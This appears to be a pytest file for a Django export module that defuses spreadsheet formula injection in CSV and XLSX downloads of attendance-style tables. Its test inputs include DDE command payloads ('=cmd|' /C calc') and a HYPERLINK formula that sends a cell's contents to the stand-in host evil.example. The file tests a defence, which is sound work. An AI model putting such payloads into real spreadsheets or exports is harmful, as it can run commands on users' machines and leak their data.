import csv
import io
from datetime import UTC, date, datetime

import django_tables2 as tables
import pytest
from django.http import Http404
from django.test import RequestFactory
from django_tables2 import RequestConfig

from core.exports import (
    ExportFormat,
    ExportTable,
    export_response,
    neutralise,
    streamed_csv_response,
)
from tests.support.found import first_sheet

HEADERS = ["Nama", "Instansi", "Catatan"]


def read_csv(response):
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))


def read_xlsx(response):
    sheet = first_sheet(response.content)
    return [list(row) for row in sheet.iter_rows(values_only=True)]


def download(rows, file_format, headers=HEADERS):
    return export_response(
        headers=headers, rows=rows, file_format=file_format, filename="daftar-hadir"
    )


@pytest.mark.parametrize(
    ("typed", "written"),
    [
        ("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),
        ('=HYPERLINK("http://evil.example","klik")', '\'=HYPERLINK("http://evil.example","klik")'),
        ("+6281234567890", "'+6281234567890"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(1+1)", "'@SUM(1+1)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        (
            '\x01=HYPERLINK("http://evil.example/?"&B2,"Klik")',
            '\'=HYPERLINK("http://evil.example/?"&B2,"Klik")',
        ),
        ("\x00\x1f@SUM(1+1)", "'@SUM(1+1)"),
        ("\u200b\u202e=1+1", "'=1+1"),
        ("\ufeff+62812", "'+62812"),
        ("  =1+1", "'  =1+1"),
        ("\n=1+1", "'\n=1+1"),
        ("\uff1dSUM(A1)", "'\uff1dSUM(A1)"),
        ("Budi\x07 Santoso", "Budi Santoso"),
        ("Catatan\nbaris dua", "Catatan\nbaris dua"),
        ("Siti Rahmawati", "Siti Rahmawati"),
        ("Pranata Humas = humas", "Pranata Humas = humas"),
        ("", ""),
    ],
)
def test_text_that_would_start_a_formula_is_quoted(typed, written):
    assert neutralise(typed) == written


def test_numbers_dates_and_empty_cells_are_kept_as_they_are():
    assert neutralise(-5) == -5
    assert neutralise(date(2021, 11, 25)) == date(2021, 11, 25)
    assert neutralise(None) == ""


def test_a_moment_is_written_in_iso_8601_with_its_offset_to_the_second(settings):
    settings.TIME_ZONE = "Asia/Jakarta"

    moment = datetime(2021, 11, 25, 1, 0, 0, 882574, tzinfo=UTC)
    assert neutralise(moment) == "2021-11-25T08:00:00+07:00"


def test_a_csv_download_is_utf8_with_a_bom_and_every_dangerous_cell_quoted():
    response = download(
        [["Ni Luh Putu Ayu", "Kementerian Agama", "=cmd|' /C calc'!A0"], ["Ja'far", "BPS", "-"]],
        ExportFormat.CSV,
    )

    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="daftar-hadir.csv"'
    assert response.content.startswith("\ufeffNama,".encode())
    assert read_csv(response) == [
        HEADERS,
        ["Ni Luh Putu Ayu", "Kementerian Agama", "'=cmd|' /C calc'!A0"],
        ["Ja'far", "BPS", "'-"],
    ]


def test_an_xlsx_download_has_no_formula_and_keeps_numbers_as_numbers():
    response = download(
        [["=1+1", "@BPS", 42], ["Budi\x07 Santoso", "+62", None]],
        ExportFormat.XLSX,
        headers=["=Nama", "Instansi", "Jumlah"],
    )

    assert response["Content-Disposition"] == 'attachment; filename="daftar-hadir.xlsx"'
    sheet = first_sheet(response.content)
    assert sheet.title == "daftar-hadir"
    assert read_xlsx(response) == [
        ["'=Nama", "Instansi", "Jumlah"],
        ["'=1+1", "'@BPS", 42],
        ["Budi Santoso", "'+62", None],
    ]
    assert not any(cell.data_type == "f" for row in sheet.iter_rows() for cell in row)


@pytest.mark.parametrize("file_format", [ExportFormat.CSV, ExportFormat.XLSX])
def test_a_control_character_before_a_formula_does_not_make_it_live(file_format):
    planted = '\x01=HYPERLINK("http://evil.example/?"&B2,"Klik")'

    response = download([[planted, "\x1b+62", "\x7f@x"]], file_format)

    rows = read_csv(response) if file_format == ExportFormat.CSV else read_xlsx(response)
    assert rows[1] == ['\'=HYPERLINK("http://evil.example/?"&B2,"Klik")', "'+62", "'@x"]
    if file_format == ExportFormat.XLSX:
        sheet = first_sheet(response.content)
        assert not any(cell.data_type == "f" for row in sheet.iter_rows() for cell in row)


def test_an_unknown_format_in_an_address_is_a_missing_page():
    assert ExportFormat.from_url("xlsx") is ExportFormat.XLSX
    with pytest.raises(Http404):
        ExportFormat.from_url("exe")


class Person:
    def __init__(self, name, agency):
        self.name, self.agency = name, agency


class PeopleTable(tables.Table):
    name = tables.Column(verbose_name="Nama")
    agency = tables.Column(verbose_name="Instansi")
    actions = tables.Column(empty_values=(), exclude_from_export=True)


def test_a_table_download_holds_every_row_of_every_page_in_the_tables_order():
    people = [Person(f"Pegawai {number:02d}", "=BPS") for number in range(30)]
    table = PeopleTable(people, order_by="-name")
    RequestConfig(RequestFactory().get("/"), paginate=False).configure(table)

    response = streamed_csv_response(ExportTable(table=table, title="Peserta", filename="peserta"))

    assert response.streaming
    assert response["Content-Disposition"] == 'attachment; filename="peserta.csv"'
    header, *rows = list(csv.reader(io.StringIO(response.getvalue().decode("utf-8-sig"))))
    assert header == ["Nama", "Instansi"]
    assert [row[0] for row in rows] == [f"Pegawai {number:02d}" for number in reversed(range(30))]
    assert {row[1] for row in rows} == {"'=BPS"}
